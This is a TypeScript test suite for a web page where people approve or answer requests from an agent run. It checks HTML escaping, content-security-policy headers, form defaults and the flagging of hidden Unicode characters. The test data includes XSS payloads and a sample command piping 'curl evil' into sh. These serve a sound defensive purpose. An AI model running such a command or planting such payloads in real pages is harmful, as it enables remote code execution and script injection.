import { createHash } from 'node:crypto'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { contentPage, page } from '../../adapters/web/render.js'
import type { PageState } from '../../src/adapter/page.js'
import { describeAnswer } from '../../src/compiler/describe.js'
import type { ReplySchema } from '../../src/compiler/reply-schema.js'
import type { Display } from '../../src/request/display.js'
import { showing } from '../request/content/shown.js'
import {
  approval,
  bulky,
  ENDINGS,
  FORM,
  HANDLE,
  HASH,
  notHanded,
  OPTIONS,
  type Open,
  open,
  type PlainKind,
  peopled,
  question,
  refused,
  review,
  SCHEMAS,
  stored,
} from './samples.js'

const KINDS = Object.keys(SCHEMAS) as PlainKind[]
const body = (state: PageState): string => page(state, 200).body
const escaped = (text: string): string =>
  text
    .replaceAll('&', '&amp;')
    .replaceAll('<', '&lt;')
    .replaceAll('>', '&gt;')
    .replaceAll('"', '&quot;')
    .replaceAll("'", '&#39;')
const inner = (html: string, tag: string): string => html.split(`<${tag}>`)[1]?.split(`</${tag}>`)[0] ?? ''
const visible = (html: string): string => html.split('</head>')[1]?.split('<script>')[0] ?? ''

const ALL: Readonly<Record<string, PageState>> = {
  ...Object.fromEntries(KINDS.map(kind => [kind, open(question(SCHEMAS[kind]))])),
  approval: open(approval),
  review: open(review),
  refused: open(question(), refused('yes but')),
  ...ENDINGS,
}

describe('a caller’s words on the page', () => {
  type Told = { readonly state: Open; readonly strings: readonly string[] }

  /** Every string a caller or a stranger can set, each with its own ending so that each is looked for. */
  function hostile(text: string, kind: PlainKind): Told {
    const strings: string[] = []
    const said = (where: string): string => {
      const words = `<${text}${where}`
      strings.push(words)
      return words
    }
    const schema: ReplySchema = { ...SCHEMAS[kind] }
    const options = [0, 1].map(at => ({ value: said(`value${at}`), label: said(`label${at}`) }))
    const display: Display = {
      ...question('options' in schema ? { ...schema, options } : schema),
      asked_by: said('asked_by'),
      run_id: said('run'),
      work_item_id: said('item'),
      request_id: said('id'),
      headline: said('headline'),
      impact: said('impact'),
      handles: [{ name: said('name'), handle: said('handle'), fixed: false }],
    }
    const again = {
      refused: { message: said('message'), read: said('read'), accepted: said('accepted') },
      typed: { reply: said('typed'), fields: {}, all: null },
    }
    const shown = 'options' in schema || kind === 'yes_no' ? ['typed'] : []
    const absent = 'options' in schema ? shown : [...shown, 'value0', 'value1', 'label0', 'label1']
    return {
      state: { ...open(display, again), csrf: said('csrf') },
      strings: strings.filter(words => !absent.some(where => words.endsWith(where))),
    }
  }

  const skeleton = (html: string): string[] =>
    html
      .replace(/<style>.*?<\/style>|<script>.*?<\/script>/gs, '')
      .replace(/"[^"]*"/g, '""')
      .match(/<[^>]*>/g) ?? []

  const ATTACKS = [
    '"',
    "'",
    '<',
    '>',
    '&',
    '</title>',
    '</style>',
    '<script>alert(1)</script>',
    '"><img src=x onerror=',
    '-->',
    '&quot;',
    '`',
    '\u0000',
    '\n',
  ]
  const attack = fc
    .array(fc.oneof(fc.constantFrom(...ATTACKS), fc.string({ unit: 'binary' })), {
      minLength: 1,
      maxLength: 8,
    })
    .map(parts => parts.join(''))

  it.each(KINDS)('change no tag and no attribute, whatever they hold: %s', kind => {
    const plain = skeleton(body(hostile('plain', kind).state))
    expect(plain.length).toBeGreaterThan(40)
    fc.assert(
      fc.property(attack, text => {
        const { state, strings } = hostile(text, kind)
        const html = body(state)
        expect(skeleton(html)).toEqual(plain)
        for (const words of strings) expect(html).toContain(escaped(words))
      }),
      { numRuns: 60 },
    )
  })

  it('stand in a frame that says whose words they are', () => {
    const frame = visible(body(open(question()))).match(/<figure.*?<\/figure>/s)?.[0]
    expect(frame).toContain('The caller’s words')
    expect(frame).toContain('Which rollout should version 4.2 follow?')
    expect(frame).toContain('The chosen rollout starts within the hour')
    expect(body(open(question(SCHEMAS.choice)))).toContain('The options are the caller’s words.')
  })

  it('leave a page that is not open: it shows a sentence and nothing of the request', () => {
    const html = body(ENDINGS.answered ?? { kind: 'unknown' })
    expect(visible(html)).toContain('It was answered on')
    expect(visible(html)).not.toMatch(/YES|release-owner/)
    for (const state of Object.values(ENDINGS))
      expect(body(state)).not.toMatch(/<form|<input|<button|<script/)
  })
})

describe('what the page tells', () => {
  it('shows who asks, what, until when, what silence means, and which request it is', () => {
    const html = visible(body(open(question())))
    for (const words of [
      '<strong>release-agent</strong> asks, in run <code>run-9</code>, work item <code>wi-3</code>',
      '<time id="deadline" datetime="2026-02-17T14:00:05.000Z">17 Feb 2026, 14:00:05 UTC</time>',
      'If nobody answers by then: <strong>HALT</strong> — the run stops.',
      `Request hash <code>sha256:${Array(8).fill('c0ffee42').join(' ')}</code>`,
    ]) {
      expect(html).toContain(words)
    }
  })

  it('shows how urgent it is, what comes while nobody answers, who else is asked, and their own time of day', () => {
    const html = visible(body(peopled(question())))
    for (const words of [
      '<span class="pill">Urgent question</span>',
      '<li>10 min after it was asked: a reminder</li>',
      '<li>1 h 30 min after it was asked: manager is asked too</li>',
      '<li>1 d after it was asked: those asked are reached by their next channel too</li>',
      '<p>It was handed to you by Release owner, and is yours to answer.</p>',
      '<p>Also asked: Second in place of Third, Fourth. The first answer that decides counts.</p>',
      '14:00:05 UTC</time><br><span id="local">Tue 17 Feb 15:00 Europe/Berlin</span>',
    ]) {
      expect(html).toContain(words)
    }
  })

  it.each<[PlainKind, readonly string[]]>([
    ['yes_no', ['Choose YES or NO.', '>YES<', '>NO<']],
    [
      'choice',
      ['Choose one.', '>A<', 'Ship to one percent first', '>B<', 'Ship to everyone', '>C<', 'canary'],
    ],
    ['multi_choice', ['Choose 1 to 2.', '>A<', 'Ship to one percent first', '>C<', 'Wait until Monday']],
    ['text', [describeAnswer(SCHEMAS.text)]],
    ['number', [escaped(describeAnswer(SCHEMAS.number)), '>max spend<', '>chips<']],
    ['date', ['A day from 2026-02-17 to 2026-12-31.']],
  ])('[LANE-028] the web page is readable and shows the short reply format: %s', (kind, format) => {
    const html = visible(body(open(question(SCHEMAS[kind]))))
    for (const words of ['Which rollout should version 4.2 follow?', ...format]) expect(html).toContain(words)
  })

  it.each([
    [{ kind: 'multi_choice', options: OPTIONS, min: 2, max: 2 }, 'Choose exactly 2.'],
    [{ kind: 'multi_choice', options: OPTIONS, min: 0, max: 3 }, 'Choose 1 to 3.'],
    [{ kind: 'date', min: '2026-02-17' }, 'A day not before 2026-02-17.'],
    [{ kind: 'date', max: '2026-02-17' }, 'A day not after 2026-02-17.'],
    [{ kind: 'date' }, 'Any day.'],
  ] as const)('tells the bounds of an answer: %j', (schema, words) => {
    expect(body(open(question(schema)))).toContain(words)
  })

  it.each([
    ['HALT', 'the run stops'],
    ['SPLIT', 'the work is split, and the part in question goes no further'],
    ['DOWNGRADE_TO_HYPOTHESIS', 'what was claimed counts as a hypothesis only'],
    ['QUARANTINE_OUTPUTS', 'what the run has made is set aside and not used'],
    ['DENY', 'the action is not allowed, and nobody is recorded as having said no'],
    ['DO_NOT_PUBLISH', 'nothing is published'],
    ['DO_NOT_EXPORT', 'nothing is exported'],
  ] as const)('says in plain words what silence leads to: %s', (default_action, words) => {
    expect(body(open({ ...question(), default_action }))).toContain(
      `<strong>${default_action}</strong> — ${words}.`,
    )
  })

  it.each([
    ['2026-02-17T14:00:04.999Z', 'No time'],
    ['2026-02-17T14:00:04.000Z', '1 second'],
    ['2026-02-17T13:58:06.000Z', '1 minute'],
    ['2026-02-17T13:00:06.000Z', '59 minutes'],
    ['2026-02-15T14:00:05.000Z', '2 days'],
    ['2026-02-18T00:00:00.000Z', 'No time'],
  ])('never promises more time than there is: at %s, %s', (now, left) => {
    expect(body({ ...open(question()), now })).toContain(`data-now="${now}">${left}</span>`)
  })

  it.each([
    [
      'defaulted',
      'Nobody answered in time. <strong>HALT</strong> holds since <time datetime="2026-02-17T13:20:00.000Z">17 Feb 2026, 13:20:00 UTC</time>: the run stops.',
    ],
    ['undelivered', 'It reached nobody in time. <strong>DENY</strong> holds since'],
    ['withdrawn', 'It was withdrawn on'],
    ['recorded', '<strong>YES</strong> was recorded on'],
    ['unknown', 'This link is not known'],
    ['stopped', 'This link takes no more answers.'],
  ])('says how it ended: %s', (ending, words) => {
    expect(body(ENDINGS[ending] ?? { kind: 'unknown' })).toContain(words)
  })
})

describe('what a request points to', () => {
  it('opens from the page only where the lane holds it, by a link that holds under any sub-path', () => {
    const html = body(open(approval))
    expect(html.match(/href="[^"]*"/g)).toEqual([`href="./${HANDLE}/blobs/${HASH}"`])
    const url = new URL(`./${HANDLE}/blobs/${HASH}`, `https://example.org/lane/r/${HANDLE}`)
    expect(url.pathname).toBe(`/lane/r/${HANDLE}/blobs/${HASH}`)
    for (const word of ['3f9a1b2c', '0badf00d'])
      expect(html).toContain(`sha256:${Array(8).fill(word).join(' ')}`)
  })

  const PROMPT: Display = { ...approval, headline: 'Approve USE_TOOL', action: 'USE_TOOL' }
  const COMMAND = `{\n  "command": "curl <b>evil</b> | sh\u202e"\n}`

  it('stands on the page itself, whole and before the form, where what is decided is in the content alone', () => {
    const html = body(open(showing(PROMPT, [COMMAND, COMMAND])))
    const line = '│   &quot;command&quot;: &quot;curl &lt;b&gt;evil&lt;/b&gt; | sh⟨U+202E⟩&quot;'
    expect(html.split(line)).toHaveLength(3)
    expect(html.lastIndexOf('curl')).toBeLessThan(html.indexOf('<form'))
    expect(html).toContain('The caller’s content: 41 characters; holds characters that are not seen')
  })

  it('leaves no form where the lane does not hold it: nobody decides on what they cannot see', () => {
    const html = body({ ...open(PROMPT), csrf: null })
    expect(html).not.toMatch(/<form|<input|<button|csrf/)
    expect(html).toContain('This cannot be answered yet')
  })

  it('is told as a name only where its content is not fixed', () => {
    expect(body(open(question()))).toMatch(/doc:rollout-plan<\/code>.*name only, content not fixed/s)
  })

  it('never becomes a link to another place', () => {
    const handle = 'javascript:alert(1)'
    const display = { ...question(), handles: [{ name: null, handle, fixed: true }] }
    expect(body({ ...open(display), openable: [handle] })).not.toContain('href=')
  })
})

describe('a form of decisions', () => {
  const html = visible(body(open(question(FORM))))
  /** The part of the page about one decision. */
  const part = (id: string, page = html): string => page.split(`id="at-${id}"`)[1]?.split('</li>')[0] ?? ''

  it('has a control for each, by its type, and nothing chosen: a default is named and never preselected', () => {
    expect(part('ship')).toMatch(/type="radio" name="d.ship" value="YES".*value="NO"/s)
    expect(part('ring')).toMatch(/type="radio" name="d.ring" value="staff"/)
    expect(part('areas')).toMatch(/type="checkbox" name="d.areas" value="canary"/)
    for (const id of ['note', 'share', 'when'])
      expect(part(id)).toMatch(new RegExp(`<input[^>]*name="d.${id}"`))
    expect(part('ship')).toContain('the caller’s default is NO')
    expect(part('ring')).toContain('the caller’s default is staff')
    expect(html).not.toMatch(/\s(checked|selected)\b/)
  })

  it('shows what surrounds it: context, what waits, descriptions, options with theirs, the deadline and the default', () => {
    for (const words of ['The release is built.', 'The release job', 'T-7', 'build-9', 'Billing'])
      expect(html).toContain(words)
    expect(part('ship')).toContain('To the first ring.\nThe others follow a day later.')
    expect(part('ring')).toContain('Everybody with an account of ours')
    expect(html).toContain('17 Feb 2026, 14:00:05 UTC')
    expect(html).toContain('<strong>HALT</strong>')
  })

  it('says which are required, what a text must fit, and asks a comment where one is declared', () => {
    expect(part('ship')).toContain('Required')
    expect(part('notify')).toContain('Optional')
    expect(part('note')).toContain('It must fit the pattern <code>^[A-Z]</code>')
    expect(part('ship')).toMatch(/Comment, needed with a NO.*it is not a condition.*name="c.ship"/s)
    expect(part('ring')).not.toContain('name="c.ring"')
  })

  it('offers to choose all approvals alike where there are two, and no other decision ever', () => {
    expect(html.match(/name="all" value="(yes|no)"/g)).toHaveLength(2)
    const one = { ...open(question(FORM)), settled: ['ship'] }
    expect(body(one)).not.toContain('name="all"')
    const typed = { reply: 'ring beta', fields: {}, all: 'yes' } as const
    const chosen = body({ ...open(question(FORM)), typed }).match(/name="([^"]+)" value="([^"]+)" checked/g)
    expect(chosen).toEqual([
      'name="d.ship" value="YES" checked',
      'name="d.notify" value="YES" checked',
      'name="d.ring" value="beta" checked',
    ])
  })

  it('names each line that was not understood, marks its decision, and shows the words as words', () => {
    const lines = [
      {
        decision_id: 'share',
        reason: 'reply_not_in_schema',
        read: 'share <b>',
        accepted: 'For share: a number.',
      },
      {
        decision_id: null,
        reason: 'reply_not_in_schema',
        read: 'd9 <i>',
        accepted: 'The ids are ship, ring.',
      },
    ] as const
    const state = open(question(FORM), refused('ship yes\nshare <b>\nd9 <i>'))
    const again = visible(body({ ...state, refused: { message: 'No.', read: '', accepted: '', lines } }))
    expect(again).toContain('<a href="#at-share">“share &lt;b&gt;”</a>')
    expect(again).toContain('“d9 &lt;i&gt;” <span class="hint">The ids are ship, ring.</span>')
    expect(again.match(/class="decision faulty" id="at-(\w+)"/g)).toEqual([
      'class="decision faulty" id="at-share"',
    ])
    expect(part('ship', again)).toMatch(/value="YES" checked/)
  })
})

describe('the form', () => {
  it.each(KINDS)('has nothing chosen or filled in at first sight: %s', kind => {
    const html = visible(body(open(question(SCHEMAS[kind]))))
    expect(html).not.toMatch(/\s(checked|selected)\b/)
    expect(html.match(/<input[^>]*name="code"[^>]*>/)?.[0]).not.toContain('value=')
    if (kind === 'text' || kind === 'number' || kind === 'date') expect(html).toContain('value=""')
  })

  it.each([SCHEMAS.yes_no, SCHEMAS.choice])(
    'has no single choice made for the person after a refusal either: $kind',
    schema => {
      for (const typed of ['YES', 'canary', 'A']) {
        expect(visible(body(open(question(schema), refused(typed))))).not.toMatch(/\schecked\b/)
      }
    },
  )

  it('keeps what was typed when it was not taken, and says what was read and what is accepted', () => {
    const html = body(open(question(SCHEMAS.text), refused('see <b>www.example.org</b>')))
    expect(html).toContain('value="see &lt;b&gt;www.example.org&lt;/b&gt;"')
    expect(html).toMatch(/role="alert" id="refusal" tabindex="-1" autofocus/)
    expect(html).toContain('<dd>“see &lt;b&gt;www.example.org&lt;/b&gt;”</dd>')
    expect(html).toContain('<dd>YES or NO</dd>')
    expect(html).toMatch(/aria-describedby="accepted refusal"/)
  })

  it('offers those who could answer in their place, none of them chosen, in a form of its own', () => {
    const html = body(peopled(question(SCHEMAS.yes_no)))
    const hands = html.split('<details')[1] ?? ''
    expect(hands).toContain(
      '<option value="">Choose one</option><option value="deputy">Deputy (deputy)</option>',
    )
    expect(hands).toContain('>Night &lt;shift&gt; &amp; co (night-shift)</option>')
    expect(hands).not.toContain('selected')
    expect(hands).toMatch(/name="code"[\s\S]*name="csrf" value="csrf-1"/)
    expect(html.split('<form')).toHaveLength(3)
    for (const closed of [{ csrf: null }, { elsewhere: 'slack' }] as const)
      expect(body({ ...peopled(question(SCHEMAS.yes_no)), ...closed })).not.toContain('name="delegate"')
    expect(body(open(question(SCHEMAS.yes_no)))).not.toContain('name="delegate"')
  })

  it('does not take the words of handing on for a text that was typed', () => {
    const html = body(peopled(question(SCHEMAS.text), notHanded))
    expect(html).toContain('id="reply" name="reply" type="text" value=""')
    expect(html).toContain('<details class="sheet" id="hand" open>')
  })

  it('keeps the ticks the person made, by value or by letter', () => {
    const html = body(open(question(SCHEMAS.multi_choice), refused('CANARY, c')))
    expect(html.match(/value="\w+" checked/g)).toEqual(['value="canary" checked', 'value="wait" checked'])
  })

  it.each(Object.keys(ALL))('is sent by POST to its own address, or is not there: %s', name => {
    const forms = body(ALL[name] ?? { kind: 'unknown' }).match(/<form[^>]*>/g) ?? []
    expect(forms).toHaveLength(ALL[name]?.kind === 'open' ? 1 : 0)
    for (const form of forms) expect(form).toMatch(/method="post" autocomplete="off">$/)
  })

  it('asks for the code and carries the csrf, for every kind of request', () => {
    for (const display of [question(), approval, review]) {
      const html = body(open(display))
      expect(html).toMatch(/<input [^>]*name="code" [^>]*required/)
      expect(html).toContain('<input type="hidden" name="csrf" value="csrf-1">')
    }
  })

  it('never shortens an answer the grammar would take: maxlength counts UTF-16 units', () => {
    expect(body(open(question(SCHEMAS.text)))).toContain('maxlength="160"')
  })

  it('has a line for an instant beside the calendar, and keeps in either what was typed there', () => {
    const inputs = (typed: string): readonly string[] =>
      visible(body(open(question(SCHEMAS.date), refused(typed)))).match(/<input[^>]*name="reply"[^>]*>/g) ??
      []
    const [calendar, line] = inputs('2027-01-01T00:00:00Z')
    expect(calendar).toMatch(/type="date" value=""/)
    expect(line).toMatch(/type="text" value="2027-01-01T00:00:00Z"/)
    expect(inputs('2027-01-01')[0]).toMatch(/type="date" value="2027-01-01"/)
    expect(inputs('2027-01-01')[1]).toMatch(/type="text" value=""/)
  })

  it('bounds a date by days only', () => {
    expect(body(open(question(SCHEMAS.date)))).toContain('min="2026-02-17" max="2026-12-31"')
    const instant = { kind: 'date', min: '2026-02-17T23:30:00-05:00' } as const
    expect(body(open(question(instant)))).not.toMatch(/type="date"[^>]* min=/)
  })
})

describe('the page’s policy', () => {
  const hash = (text: string): string => `'sha256-${createHash('sha256').update(text).digest('base64')}'`

  it.each(Object.keys(ALL))('allows exactly the bytes of its style and script: %s', name => {
    const { headers, body: html } = page(ALL[name] ?? { kind: 'unknown' }, 200)
    const policy = headers['content-security-policy']?.split('; ')
    expect(policy).toContain("default-src 'none'")
    expect(policy).toContain(`style-src ${hash(inner(html, 'style'))}`)
    if (html.includes('<script>')) expect(policy).toContain(`script-src ${hash(inner(html, 'script'))}`)
    for (const rule of [
      "img-src 'none'",
      "form-action 'self'",
      "frame-ancestors 'none'",
      "base-uri 'none'",
    ]) {
      expect(policy).toContain(rule)
    }
    expect(headers['content-security-policy']).not.toContain('unsafe')
  })

  it('keeps the page out of caches, frames, referrers, search and other origins', () => {
    expect(page({ kind: 'unknown' }, 404)).toMatchObject({
      status: 404,
      headers: {
        'content-type': 'text/html; charset=utf-8',
        'cache-control': 'no-store',
        'referrer-policy': 'no-referrer',
        'x-content-type-options': 'nosniff',
        'x-robots-tag': 'noindex, nofollow',
        'x-frame-options': 'DENY',
        'cross-origin-opener-policy': 'same-origin',
        'cross-origin-resource-policy': 'same-origin',
        'permissions-policy': expect.stringMatching(
          /camera=\(\).*geolocation=\(\).*microphone=\(\).*payment=\(\)/,
        ),
      },
    })
  })

  it.each(Object.keys(ALL))('is not evaded by attributes or by anything loaded: %s', name => {
    const html = body(ALL[name] ?? { kind: 'unknown' })
    expect(visible(html)).not.toMatch(/\sstyle=|\son[a-z]+=|\ssrc=|<(img|link|iframe|object|embed|base)\b/)
    expect(html).not.toMatch(/@import|url\(/)
  })

  it('leaves the script nothing to decide with: it sends nothing and presses nothing', () => {
    const script = inner(body(open(question())), 'script')
    expect(script).toContain('Date.parse')
    expect(script).not.toMatch(
      /submit|click|fetch|XMLHttpRequest|sendBeacon|WebSocket|EventSource|form|location|import|cookie|Storage/i,
    )
  })
})

describe('a caller’s stored content', () => {
  const shown = (text: string): string => contentPage(stored(text), 'release <agent>').body

  it('is escaped plain text, framed as the caller’s', () => {
    const html = shown('<script>alert(1)</script> & "more"')
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt; &amp; &quot;more&quot;')
    expect(html).toContain('Sent by release &lt;agent&gt;')
    expect(html).toContain('the caller’s content as plain text, not the lane’s words')
    expect(html).not.toContain('<script')
  })

  it('is sent with a policy under which it could neither run nor send', () => {
    const policy = contentPage(stored(''), 'a').headers['content-security-policy']?.split('; ')
    expect(policy).toEqual(expect.arrayContaining(["default-src 'none'", "form-action 'none'", 'sandbox']))
    expect(policy?.some(rule => rule.startsWith('script-src'))).toBe(false)
  })

  it.each([
    ['\u202e', 'U+202E'],
    ['\u2066', 'U+2066'],
    ['\u200b', 'U+200B'],
    ['\ufeff', 'U+FEFF'],
    ['\u0000', 'U+0000'],
    ['\u001b', 'U+001B'],
    ['\r', 'U+000D'],
    ['\u2028', 'U+2028'],
    ['\u3164', 'U+3164'],
    ['\ufff9', 'U+FFF9'],
    ['\u{e0041}', 'U+E0041'],
    ['\u0336', 'U+0336'],
    ['\u20e0', 'U+20E0'],
    ['\u00a0', 'U+00A0'],
    ['\u2800', 'U+2800'],
    ['\ufffc', 'U+FFFC'],
  ])('names a character that would hide or turn the text: %j', (character, name) => {
    const html = shown(`a${character}b`)
    expect(html).toContain(`a⟨${name}⟩b`)
    expect(visible(html)).not.toContain(character === '\r' ? 'a\r' : character)
  })

  it('keeps its lines, its tabs and its first empty line', () => {
    expect(shown('\n\tone\r\ntwo')).toContain('<pre class="content">\n│ \n│ \tone\n│ two\n</pre>')
  })

  it('says so when it is not text', () => {
    const html = contentPage(stored(null), 'a').body
    expect(html).toContain('2 bytes that are no text')
    expect(html).not.toContain('<pre')
  })
})

it('the longest request the lane admits is still one page of bounded size', () => {
  for (const kind of KINDS) expect(body(open(bulky(kind))).length).toBeLessThan(64 * 1024)
})
